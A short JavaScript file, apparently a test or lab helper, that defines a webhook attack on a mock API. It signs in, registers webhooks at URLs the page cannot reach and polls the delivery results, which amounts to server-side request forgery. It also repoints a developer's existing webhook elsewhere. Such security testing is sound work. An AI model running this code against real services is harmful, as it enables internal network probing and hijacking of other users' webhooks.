// Runs in a browser page: has the mock deliver webhooks to where the page itself may not go. Defines `webhookAttack`.

/**
 * Signs in with the public demo password, registers an endpoint for each URL, has each tried, and reads what came of it.
 * Returns each attempt as its list shows it, or the refusal.
 */
async function webhookAttack(base, urls, { email, password }, known) {
  const json = { 'content-type': 'application/json' };
  const signIn = { method: 'POST', headers: json, body: JSON.stringify({ email, password }) };
  const { token } = await (await fetch(`${base}/auth/login`, signIn)).json();
  const headers = { ...json, authorization: `Bearer ${token}` };
  const send = async (method, path, body) =>
    (await fetch(base + path, { method, headers, ...(body && { body: JSON.stringify(body) }) })).json();

  const tried = async (id) => {
    await send('POST', `/webhooks/${id}/test`);
    for (let time = 0; time < 100; time += 1) {
      const { data } = await send('GET', `/webhooks/${id}/deliveries`);
      const [attempt] = data ?? [];
      if (attempt && attempt.status !== 'pending') return attempt;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    return { error: 'no outcome' };
  };
  const registered = await Promise.all(
    urls.map(async (url) => {
      const { id } = await send('POST', '/webhooks', { url, events: ['*'] });
      return { url, ...(await tried(id)) };
    }),
  );
  // The endpoint that a developer registered is pointed elsewhere.
  const changed = [];
  for (const url of urls.slice(-CHANGED)) {
    await send('PUT', `/webhooks/${known}`, { url });
    changed.push({ url, ...(await tried(known)) });
  }
  return [...registered, ...changed];
}

/** How many of the URLs, from the end, an endpoint that is there already is pointed at. */
const CHANGED = 3;

globalThis.webhookAttack = webhookAttack;
